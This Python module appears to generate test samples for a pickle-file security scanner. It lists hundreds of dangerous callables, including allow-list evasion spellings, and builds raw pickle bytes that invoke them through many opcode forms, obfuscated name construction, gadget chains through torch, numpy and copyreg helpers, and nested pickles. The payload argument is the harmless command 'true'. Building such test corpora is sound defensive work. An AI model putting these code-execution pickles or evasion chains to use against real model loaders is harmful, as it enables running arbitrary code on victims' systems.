"""Pickles that would run something: every calling opcode and spelling, and callables far beyond `os.system`."""

# ruff: noqa: E501  tables of names and texts, one a line

import pickle
import struct
from collections.abc import Callable, Iterator

from scanner_corpus.sample import Sample, malicious

__all__ = ["PAYLOADS", "call", "samples", "string"]

# What a process starter, evaluator, reader, importer or fetcher can be named as. `module:name`, or `module:name=argument`.
CALLABLES = {
    "starts programs": """
        os:system os:popen os:execvp os:spawnlp os:posix_spawn posix:system nt:system posix:execv os:startfile
        subprocess:Popen subprocess:run subprocess:call subprocess:check_call subprocess:check_output
        subprocess:getoutput subprocess:getstatusoutput _posixsubprocess:fork_exec pty:spawn pty:fork popen2:popen3
        commands:getoutput commands:getstatusoutput asyncio.subprocess:create_subprocess_shell
        asyncio:create_subprocess_exec multiprocessing:Process multiprocessing.context:Process
        multiprocessing.pool:Pool multiprocessing.util:spawnv_passfds concurrent.futures:ProcessPoolExecutor
        platform:popen uuid:_get_command_stdout uuid:_popen ctypes.util:_findLib_gcc distutils.spawn:spawn
        _osx_support:_read_output _aix_support:_read_cmd_output test.support.script_helper:spawn_python
        idlelib.pyshell:ModifiedInterpreter imaplib:IMAP4_stream pipes:Template sched:scheduler
        turtledemo.__main__:main antigravity:geohash webbrowser:open webbrowser:GenericBrowser
        webbrowser:BackgroundBrowser smtpd:main cgitb:enable nntplib:NNTP pydoc:pipepager pydoc:tempfilepager
        """,
    "evaluates": """
        builtins:eval builtins:exec builtins:compile __builtin__:eval __builtin__:execfile code:interact
        code:InteractiveInterpreter code:InteractiveConsole codeop:compile_command timeit:timeit timeit:repeat
        timeit:Timer timeit:main cProfile:run cProfile:runctx profile:run trace:Trace pdb:run pdb:runeval pdb:Pdb
        bdb:Bdb bdb:Bdb.run doctest:debug_script doctest:testsource doctest:debug_src runpy:run_path runpy:run_module
        runpy:_run_code runpy:_run_module_code types:FunctionType types:CodeType types:LambdaType
        typing:get_type_hints typing:ForwardRef typing:_eval_type dataclasses:make_dataclass
        dataclasses:_create_fn collections:namedtuple string:Formatter.format inspect:signature
        inspect:_signature_fromstr ast:literal_eval functools:reduce functools:singledispatch
        functools:partialmethod operator:methodcaller operator:attrgetter builtins:map builtins:filter
        builtins:__import__ builtins:getattr builtins:setattr builtins:vars builtins:globals builtins:delattr
        lib2to3.pgen2.pgen:generate_grammar logging.config:fileConfig logging.config:dictConfig
        logging.config:_resolve sqlite3:connect xmlrpc.client:loads site:addpackage site:execsitecustomize
        idlelib.run:Executive.runcode rlcompleter:Completer contextlib:ExitStack unittest.mock:_importer
        """,
    "imports and loads": """
        importlib:import_module importlib:reload importlib.util:spec_from_file_location importlib:__import__
        importlib.machinery:SourceFileLoader importlib._bootstrap:_load importlib._bootstrap_external:SourcelessFileLoader
        _frozen_importlib:BuiltinImporter.load_module _frozen_importlib_external:FileFinder imp:load_source
        imp:load_dynamic _imp:create_dynamic pkgutil:get_loader pkgutil:resolve_name pkgutil:walk_packages
        zipimport:zipimporter ctypes:CDLL ctypes:PyDLL ctypes:cdll.LoadLibrary _ctypes:dlopen marshal:loads
        pickle:loads _pickle:loads pickle:Unpickler cPickle:loads shelve:open shelve:DbfilenameShelf dbm:open
        copyreg:add_extension copyreg:pickle codecs:decode codecs:open _codecs:decode encodings:search_function
        zlib:decompress base64:b64decode gzip:open bz2:BZ2File lzma:open tarfile:open zipfile:ZipFile
        shutil:unpack_archive plistlib:load xml.etree.ElementTree:parse xml.dom.minidom:parseString
        multiprocessing.reduction:ForkingPickler.loads multiprocessing.managers:BaseManager
        multiprocessing.connection:Client doctest:testfile sysconfig:_init_posix venv:create
        ensurepip:_run_pip ensurepip:bootstrap distutils.core:run_setup cffi:FFI gettext:translation
        """,
    "files and network": """
        builtins:open io:open io:FileIO _io:open_code _io:FileIO io:open_code os:remove os:unlink os:rename os:chmod
        os:symlink os:environ.update os:putenv os:kill os:open os:listdir os:walk os:makedirs shutil:rmtree
        shutil:copyfile shutil:move shutil:copytree shutil:make_archive tempfile:mktemp tempfile:NamedTemporaryFile
        pathlib:Path.write_text pathlib:Path.read_text pathlib:Path.unlink fileinput:FileInput linecache:getlines
        glob:glob mmap:mmap urllib.request:urlopen urllib.request:urlretrieve urllib:urlopen urllib2:urlopen
        http.client:HTTPConnection http.server:HTTPServer httplib:HTTPSConnection ftplib:FTP smtplib:SMTP
        telnetlib:Telnet poplib:POP3 imaplib:IMAP4 socket:socket socket:create_connection socket:getaddrinfo
        _socket:socket ssl:get_server_certificate socketserver:TCPServer asyncio:open_connection
        xmlrpc.client:ServerProxy distutils.file_util:write_file distutils.file_util:copy_file
        logging:FileHandler logging.handlers:SocketHandler logging.handlers:HTTPHandler logging.handlers:SMTPHandler
        threading:Thread threading:Timer _thread:start_new_thread signal:signal signal:raise_signal sys:exit
        sys:setprofile os:_exit os:abort atexit:register gc:get_objects resource:setrlimit faulthandler:_sigsegv
        weakref:finalize netrc:netrc getpass:getuser mailbox:Maildir wsgiref.simple_server:make_server
        """,
    "other libraries": """
        numpy:load numpy:fromfile numpy:save numpy:genfromtxt numpy:memmap numpy:fromregex numpy:vectorize
        numpy:apply_along_axis numpy:frompyfunc numpy:piecewise numpy.f2py:compile numpy.f2py.crackfortran:myeval
        numpy.testing._private.utils:runstring numpy.testing:rundocs numpy.distutils.exec_command:exec_command
        numpy.lib.npyio:DataSource numpy.ctypeslib:load_library numpy.lib._npyio_impl:NpzFile
        scipy.io:loadmat scipy.LowLevelCallable:from_cython scipy.optimize:minimize
        pandas:read_pickle pandas:eval pandas.core.computation.eval:eval pandas:read_csv pandas.io.pickle:read_pickle
        pandas.io.common:urlopen pandas:read_html pandas.core.frame:DataFrame.to_csv pandas:DataFrame.eval
        torch:load torch:compile torch.serialization:load torch.hub:load torch.hub:download_url_to_file
        torch.hub:load_state_dict_from_url torch.jit:load torch.jit:CompilationUnit torch._C:import_ir_module
        torch.utils.cpp_extension:load_inline torch.utils.model_zoo:load_url torch.package:PackageImporter
        torch.fx.graph_module:_exec_with_source torch.fx.graph_module:reduce_graph_module torch.fx:symbolic_trace
        torch.fx._symbolic_trace:Tracer.trace torch._inductor.codecache:PyCodeCache.load torch.distributed:launch
        torch._dynamo.guards:GuardBuilder.get torch.ops:load_library torch.classes:load_library torch:ops.load_library
        torch.distributed.rpc:rpc_sync torch.utils.data.datapipes.utils.decoder:basichandlers
        torch.multiprocessing:spawn torch.testing._internal.common_utils:run_tests torch.utils.bundled_inputs:eval
        torch.distributed.elastic.multiprocessing.api:start_processes torch.storage:load torch._utils_internal:prepare
        torch.cuda.amp.common:find_spec torchvision.datasets.utils:download_url torchvision.models._api:load
        torch.utils._import_utils:dill torch.onnx.verification:verify torch._appdirs:os.system
        joblib:load joblib.numpy_pickle:load joblib:Parallel joblib:Memory joblib.externals.loky:get_reusable_executor
        joblib.externals.cloudpickle:loads joblib.parallel:delayed joblib.externals.cloudpickle.cloudpickle:_make_function
        sklearn.utils._testing:assert_run_python_script sklearn.datasets:fetch_openml sklearn.datasets:load_files
        sklearn.externals._packaging:parse sklearn.utils:gen_batches sklearn.utils.fixes:parse_version
        xgboost.spark:SparkXGBModel lightgbm.engine:train catboost.utils:read_cd catboost:Pool
        tensorflow:io.read_file tensorflow:py_function tensorflow.python.platform.gfile:GFile
        tensorflow.saved_model:load tensorflow.io.gfile:copy tensorflow:load_op_library tensorflow.raw_ops:WriteFile
        tensorflow.python.framework.load_library:load_op_library keras.models:load_model keras.utils:get_file
        keras.src.utils.python_utils:func_load keras.saving:deserialize_keras_object keras.utils.generic_utils:func_load
        transformers:AutoModel.from_pretrained transformers:pipeline transformers.dynamic_module_utils:get_class_from_dynamic_module
        transformers.utils.hub:cached_file huggingface_hub:snapshot_download huggingface_hub:hf_hub_download datasets:load_dataset
        skops.io:load mlflow.pyfunc:load_model mlflow.projects:run onnx:load onnxruntime:InferenceSession
        cloudpickle:loads cloudpickle.cloudpickle:_builtin_type dill:loads dill._dill:_create_function dill._dill:_import_module
        pip:main pip._internal:main pip._internal.cli.main:main setuptools:setup setuptools.dist:Distribution
        pkg_resources:run_script setuptools.command.easy_install:main wheel.cli:main IPython:start_ipython IPython.utils.process:system
        IPython.core.interactiveshell:InteractiveShell ipykernel.kernelapp:launch_new_instance jupyter_client:run_kernel
        pytest:main _pytest.config:main nose:run py.process:cmdexec py._process.cmdexec:cmdexec coverage.execfile:run_python_file
        requests:get requests.api:post httpx:get urllib3:PoolManager aiohttp:ClientSession websocket:create_connection
        paramiko:SSHClient fabric:Connection invoke:run pexpect:spawn pexpect:run plumbum:local sh:Command psutil:Popen execnet:makegateway
        yaml:load yaml:unsafe_load jsonpickle:decode jsonpickle.unpickler:loadclass ruamel.yaml:YAML toml:load
        jinja2:Template jinja2:Environment.from_string mako.template:Template django.template:Template
        sympy:sympify sympy:lambdify sympy.parsing.sympy_parser:eval_expr numexpr:evaluate numba.core.serialize:_unpickle__CustomPickled
        numba:jit llvmlite.binding:load_library_permanently Cython:inline Cython.Build.Inline:cython_inline
        ray:init ray.cloudpickle:loads dask:compute distributed:Client celery:Celery pyspark:SparkContext
        matplotlib.pyplot:savefig matplotlib:use PIL.Image:open PIL.ImageShow:show cv2:imread imageio:imread nltk:download nltk.data:load
        spacy.util:load_model gensim.utils:unpickle fastai.learner:load_learner fastai.basics:untar_data gradio:Interface
        h5py:File zarr:open pyarrow:deserialize pyarrow.fs:LocalFileSystem fsspec:open fsspec.core:OpenFile smart_open:open
        sqlalchemy:create_engine sqlalchemy.engine:create_engine psycopg2:connect redis:Redis boto3:client google.cloud.storage:Client
        gunicorn.app.wsgiapp:run uvicorn:run flask:Flask tornado.ioloop:IOLoop twisted.internet:reactor.spawnProcess zmq:Context
        win32com.client:Dispatch win32api:WinExec docker:from_env kubernetes.config:load_kube_config git:Repo.clone_from
        ansible.module_utils:run_command hydra.utils:instantiate hydra._internal.utils:_locate omegaconf:OmegaConf.load fire:Fire
        click:launch typer:launch attr._make:_make_init attr:make_class pydantic:create_model cattrs:structure
        polars:read_csv polars:LazyFrame.deserialize polars.io:scan_csv duckdb:sql statsmodels.iolib.smpickle:load_pickle
        optuna:create_study wandb:init comet_ml:Experiment evaluate:load langchain.llms:loading.load_llm langchain_core.load:loads
        smolagents.local_python_executor:evaluate_python_code guidance:system llama_cpp:Llama vllm:LLM ctransformers:AutoModelForCausalLM
        """,
    "unheard of": """
        acme.models.loader:prepare evilpkg:payload internal_tools.ops:handle my_model.hooks:on_load helpers:go
        x.y.z:do_it zz:fn project.custom:callback vendor_pkg.boot:boot company_ml.registry:resolve a:b
        """,
    "around a policy": """
        os:path.os.system numpy:os.system numpy.core.multiarray:os.system torch:os.system torch.serialization:os.system
        torch._utils:os.system sklearn.base:os.system sklearn.utils:os.system joblib.numpy_pickle:os.system
        collections:_sys.modules.__getitem__ collections:abc.sys.modules random:_os.system logging:os.system
        logging:sys.modules.get re:enum.sys.exit re:functools.reduce copyreg:__newobj__.__globals__.get
        datetime:sys.modules enum:sys.modules.get string:_re.sys types:FunctionType.__call__ pathlib:os.system
        pathlib:Path.open pathlib:Path.__init__ uuid:os.popen uuid:UUID.__init__.__globals__ ipaddress:functools.reduce
        array:array.fromfile numpy:ndarray.tofile numpy:ndarray.__reduce__ numpy:dtype.__class__
        numpy.random:mtrand.os numpy:matrix.tofile numpy:core.os.system numpy:lib.npyio.os.system
        numpy.lib:format.read_array numpy.ma.core:inspect.sys torch.nn.modules.module:torch.load
        torch.nn.modules.module:functools.reduce torch.nn:Module.__init__.__globals__.get torch.nn.functional:importlib.import_module
        torch.optim:Adam.__init__.__globals__ torch.storage:pickle.loads torch.storage:io.open torch.storage:UntypedStorage.from_file
        torch._tensor:os.system torch._tensor:functools.partial.__new__ torch:Tensor.__class__ torch:multiprocessing.spawn
        sklearn.pipeline:Pipeline.__init__ sklearn.pipeline:Parallel sklearn.ensemble._forest:threading.Thread
        sklearn.ensemble._forest:Parallel.__call__ sklearn.model_selection._search:time.sleep sklearn.base:importlib.import_module
        sklearn.preprocessing._function_transformer:warnings.sys sklearn.linear_model._base:numbers.sys xgboost.sklearn:json.codecs.open
        xgboost.core:os.system xgboost.core:ctypes.CDLL xgboost:Booster.load_model lightgbm.basic:os.system lightgbm.sklearn:copy.sys
        lightgbm.basic:ctypes.CDLL pandas.core.frame:sys.exit pandas.core.frame:DataFrame.eval pandas.core.series:sys.modules
        pandas:compat.os.system pandas:io.common.os.system scipy.sparse._csr:np.os.system scipy.sparse:os.system
        catboost.core:os.system catboost.core:CatBoost.load_model builtins:object.__reduce_ex__ builtins:str.format
        builtins:object.__subclasses__ builtins:type.__call__ builtins:print builtins:input builtins:breakpoint
        builtins:help builtins:memoryview builtins:super builtins:staticmethod builtins:exit builtins:license._Printer__setup
        """,
}  # fmt: skip


def string(text: str, spelling: int = 0) -> bytes:
    raw = text.encode()
    match spelling % 7:
        case 0:
            return b"\x8c" + bytes([len(raw)]) + raw
        case 1:
            return b"X" + struct.pack("<I", len(raw)) + raw
        case 2:
            return b"V" + "".join(f"\\u{ord(c):04x}" for c in text).encode() + b"\n"
        case 3:
            return b"S'" + "".join(f"\\x{ord(c):02x}" for c in text).encode() + b"'\n"
        case 4:
            return b"\x8d" + struct.pack("<Q", len(raw)) + raw
        case 5:
            return b"U" + bytes([len(raw)]) + raw
        case _:
            return b"T" + struct.pack("<i", len(raw)) + raw


def _global(module: str, name: str) -> bytes:
    return f"c{module}\n{name}\n".encode()


def _stack(module: str, name: str, spelling: int = 0) -> bytes:
    return string(module, spelling) + string(name, spelling + 1) + b"\x93"


_ARGUMENT = b"S'true'\n"
WAYS: dict[str, Callable[[str, str], bytes]] = {
    "reduce": lambda m, n: b"\x80\x02" + _global(m, n) + _ARGUMENT + b"\x85R.",
    "reduce 0": lambda m, n: _global(m, n) + b"(" + _ARGUMENT + b"tR.",
    "stack": lambda m, n: b"\x80\x04" + _stack(m, n) + string("true") + b"\x85R.",
    "framed": lambda m, n: b"\x80\x04\x95" + struct.pack("<Q", len(_stack(m, n)) + 9) + _stack(m, n) + string("true") + b"\x85R.",
    "escaped": lambda m, n: string(m, 3) + string(n, 2) + b"\x93(" + _ARGUMENT + b"tR.",
    "inst": lambda m, n: b"(" + _ARGUMENT + f"i{m}\n{n}\n.".encode(),
    "obj": lambda m, n: b"(" + _global(m, n) + _ARGUMENT + b"o.",
    "newobj": lambda m, n: b"\x80\x02" + _global(m, n) + _ARGUMENT + b"\x85\x81.",
    "newobj_ex": lambda m, n: b"\x80\x04" + _stack(m, n, 1) + _ARGUMENT + b"\x85}\x92.",
    "memo": lambda m, n: b"\x80\x04" + string(n) + b"\x940" + string(m) + b"\x940" + b"h\x01h\x00\x93" + string("true") + b"\x85R.",
    "sparse memo": lambda m, n: b"\x80\x02" + string(m, 1) + b"r\xff\x00\x00\x000" + string(n, 5) + b"r\x07\x00\x00\x000" + b"j\xff\x00\x00\x00j\x07\x00\x00\x00\x93" + _ARGUMENT + b"\x85R.",
    "buried": lambda m, n: b"\x80\x04}(" + string("weights") + b"]" + string("layer") + _stack(m, n, 4) + string("true") + b"\x85Ru.",
    "popped": lambda m, n: b"\x80\x04" + _stack(m, n) + string("true") + b"\x85R0}.",
    "torn": lambda m, n: b"\x80\x04" + _stack(m, n) + string("true") + b"\x85R\xff\xff\xff",
    "in a list of weights": lambda m, n: pickle.dumps([0.5] * 500)[:-1] + _stack(m, n) + string("true") + b"\x85R\x86.",
    "stacked": lambda m, n: pickle.dumps({"a": 1}) + b"\x80\x04" + _stack(m, n) + string("true") + b"\x85R.",
    "state": lambda m, n: b"\x80\x04" + _stack("collections", "OrderedDict") + b")R}" + string("x") + _stack(m, n) + string("true") + b"\x85Rsb.",
    "persistent": lambda m, n: b"\x80\x02(" + string("storage", 1) + _global(m, n) + string("true", 1) + b"\x85RtQ.",
    "dict key": lambda m, n: b"\x80\x02}" + _global(m, n) + _ARGUMENT + b"\x85RK\x01s.",
    "set member": lambda m, n: b"\x80\x04\x8f(" + _stack(m, n) + string("true") + b"\x85R\x90.",
}  # fmt: skip


def call(module: str, name: str, way: str = "stack") -> bytes:
    return WAYS[way](module, name)


PAYLOADS = {
    "system": call("posix", "system"),
    "old": call("os", "system", "reduce 0"),
    "eval": call("builtins", "eval", "newobj_ex"),
    "popen": call("subprocess", "Popen", "framed"),
    "runpy": call("runpy", "run_path", "memo"),
    "torch": call("torch.hub", "load", "reduce"),
}


def samples() -> Iterator[Sample]:
    ways = list(WAYS)
    for group, names in CALLABLES.items():
        for number, name in enumerate(names.split()):
            module, _, function = name.partition(":")
            for way in (ways[number % len(ways)], "stack") if group != "unheard of" else ("reduce", "stack"):
                yield malicious(f"pickle: {group}", f"{name} {way}", call(module, function, way), f"m{number}.pkl")
    for way in WAYS:
        for payload in ("os:system", "builtins:exec", "nt:system", "socket:create_connection"):
            yield malicious("pickle: opcodes", f"{payload} {way}", call(*payload.split(":"), way), "weights.dat")
    yield from _chains()


def _getattr(target: bytes, name: str) -> bytes:
    return _stack("builtins", "getattr") + target + string(name) + b"\x86R"


def _one(callee: bytes, *arguments: bytes) -> bytes:
    return callee + b"(" + b"".join(arguments) + b"tR"


def _chains() -> Iterator[Sample]:
    """What is called is what another call returned."""
    os_module = _one(_stack("builtins", "__import__"), string("os"))
    text = string("true")
    chains = {
        "getattr import": _one(_getattr(os_module, "system"), text),
        "getattr modules": _one(
            _getattr(_one(_getattr(_stack("sys", "modules"), "get"), string("os")), "system"), text
        ),
        "getattr class": _one(
            _getattr(_getattr(_stack("builtins", "str"), "__class__"), "__subclasses__"), _stack("builtins", "type")
        ),
        "getattr method of made": _one(
            _getattr(
                _one(_stack("numpy.core.multiarray", "_reconstruct"), _stack("numpy", "ndarray"), b")", string("b")),
                "tofile",
            ),
            text,
        ),
        "getattr path": _one(_getattr(_one(_stack("pathlib", "PosixPath"), text), "unlink")),
        "getattr path write": _one(_getattr(_one(_stack("pathlib", "Path"), text), "write_text"), text),
        "partial": _one(_one(_stack("functools", "partial"), _stack("os", "system"), text)),
        "partial of partial": _one(
            _one(
                _stack("functools", "partial"), _stack("functools", "partial"), _stack("builtins", "eval"), string("1")
            )
        ),
        "map eval": _one(
            _stack("builtins", "list"),
            _one(_stack("builtins", "map"), _stack("builtins", "eval"), b"]" + string("1") + b"a"),
        ),
        "sorted by eval": _one(_stack("builtins", "sorted"), b"]" + string("1") + b"a", _stack("builtins", "eval")),
        "max by key": b"\x80\x04"
        + _stack("builtins", "max")
        + b"]"
        + string("1")
        + b"a\x85}"
        + string("key")
        + _stack("builtins", "eval")
        + b"s\x92",
        "defaultdict of getattr": _one(_stack("collections", "defaultdict"), _stack("builtins", "breakpoint")),
        "operator call": _one(_stack("operator", "call"), _stack("os", "system"), text),
        "attrgetter": _one(_one(_stack("operator", "attrgetter"), string("system")), os_module),
        "itemgetter of modules": _one(_one(_stack("operator", "itemgetter"), string("os")), _stack("sys", "modules")),
        "methodcaller": _one(_one(_stack("operator", "methodcaller"), string("system"), text), os_module),
        "reduce": _one(_stack("functools", "reduce"), _stack("builtins", "getattr"), b"]", _stack("builtins", "eval")),
        "type makes a class": _one(
            _one(_stack("builtins", "type"), string("A"), _stack("builtins", "object") + b"\x85", b"}")
        ),
        "enum type": _one(_stack("enum", "Enum"), string("A"), string("a b"))
        + _getattr(_stack("enum", "Enum"), "__class__"),
        "build sets a global": _stack("builtins", "print")
        + b"}"
        + string("__call__")
        + _stack("builtins", "eval")
        + b"sb",
        "build on a class": _stack("collections", "OrderedDict")
        + b"N}"
        + string("__getitem__")
        + _stack("os", "system")
        + b"s\x86b",
        "setstate slot": _one(_stack("collections", "OrderedDict"))
        + b"}"
        + string("__setstate__")
        + _stack("os", "system")
        + b"sb"
        + text
        + b"b",
        "codecs rot13": _one(
            _stack("builtins", "exec"), _one(_stack("_codecs", "decode"), string("cevag(1)"), string("rot13"))
        ),
        "codecs encode": _one(_stack("_codecs", "encode"), string("x"), string("rot13")),
        "name from bytes": string("os")
        + _one(_stack("_codecs", "encode"), string("system"), string("latin1"))
        + b"\x93"
        + text
        + b"\x85R",
        "name from join": string("os")
        + _one(_stack("operator", "add"), string("sys"), string("tem"))
        + b"\x93"
        + text
        + b"\x85R",
        "name from str": string("os") + _one(_stack("builtins", "str"), string("system")) + b"\x93" + text + b"\x85R",
        "rebuild type": _one(
            _stack("torch._tensor", "_rebuild_from_type_v2"),
            _stack("os", "system"),
            _stack("torch", "Tensor"),
            text + b"\x85",
            b"N",
        ),
        "reconstructor": _one(
            _stack("copyreg", "_reconstructor"), _stack("subprocess", "Popen"), _stack("builtins", "object"), b"N"
        ),
        "reconstructor base": _one(
            _stack("copyreg", "_reconstructor"), _stack("builtins", "str"), _stack("pty", "spawn"), text
        ),
        "newobj helper": _one(_stack("copyreg", "__newobj__"), _stack("subprocess", "Popen"), text),
        "newobj_ex helper": _one(
            _stack("copyreg", "__newobj_ex__"),
            _stack("threading", "Timer"),
            b"K\x01" + _stack("os", "abort") + b"\x86",
            b"}",
        ),
        "load from bytes": _one(
            _stack("torch.storage", "_load_from_bytes"),
            b"B" + struct.pack("<I", len(PAYLOADS["old"])) + PAYLOADS["old"],
        ),
        "load from made bytes": _one(
            _stack("torch.storage", "_load_from_bytes"), _one(_stack("builtins", "bytes"), string("x"))
        ),
        "numpy reconstruct": _one(
            _stack("numpy.core.multiarray", "_reconstruct"), _stack("subprocess", "Popen"), text + b"\x85", string("b")
        ),
        "numpy scalar": _one(
            _stack("numpy.core.multiarray", "scalar"),
            _one(_stack("numpy", "dtype"), string("O8")),
            b"B" + struct.pack("<I", len(PAYLOADS["old"])) + PAYLOADS["old"],
        ),
        "function transformer": _one(
            _stack("copyreg", "_reconstructor"),
            _stack("sklearn.preprocessing._function_transformer", "FunctionTransformer"),
            _stack("builtins", "object"),
            b"N",
        )
        + b"}"
        + string("func")
        + _stack("os", "system")
        + b"sb",
        "estimator with exec": b"\x80\x04"
        + _stack("sklearn.pipeline", "Pipeline")
        + b")\x81}"
        + string("steps")
        + b"]"
        + _stack("builtins", "exec")
        + b"asb",
        "forward hook": b"\x80\x04"
        + _stack("torch.nn.modules.linear", "Linear")
        + b")\x81}"
        + string("_forward_pre_hooks")
        + b"}K\x00"
        + _stack("os", "system")
        + b"ssb",
        "fx module": _one(
            _stack("torch.fx.graph_module", "reduce_graph_module"),
            b"}" + string("_code") + string("import os\nos.system('true')") + b"s",
            string(""),
        ),
        "distribution": b"\x80\x04"
        + _stack("scipy.stats._distn_infrastructure", "rv_frozen")
        + b")\x81}"
        + string("_parse_arg_template")
        + string("x=1")
        + b"sb",
        "weakref": _one(_stack("weakref", "ref"), _stack("os", "system"))
        + _one(_stack("weakref", "finalize"), _stack("builtins", "object"), _stack("os", "system"), text),
        "extension": b"\x80\x02\x82\x05" + text + b"\x85R",
        "big extension": b"\x80\x02\x84\x05\x00\x01\x00" + text + b"\x85R",
        "nested pickle": _one(
            _stack("pickle", "loads"), b"B" + struct.pack("<I", len(PAYLOADS["system"])) + PAYLOADS["system"]
        ),
        "carried pickle": b"]C" + bytes([len(PAYLOADS["system"])]) + PAYLOADS["system"] + b"a",
        "carried old pickle": b"]B" + struct.pack("<I", len(PAYLOADS["old"])) + PAYLOADS["old"] + b"a",
        "carried in text": b"]" + string(PAYLOADS["old"].decode("latin-1"), 1) + b"a",
    }
    for name, body in chains.items():
        start = b"" if body.startswith(b"\x80") else b"\x80\x04"
        yield malicious("pickle: chains", name, start + body + b".", "chain.pkl")
        yield malicious(
            "pickle: chains",
            f"{name}, in a state",
            start + b"}" + string("w") + body.removeprefix(b"\x80\x04").removeprefix(b"\x80\x02") + b"s.",
            "chain.bin",
        )
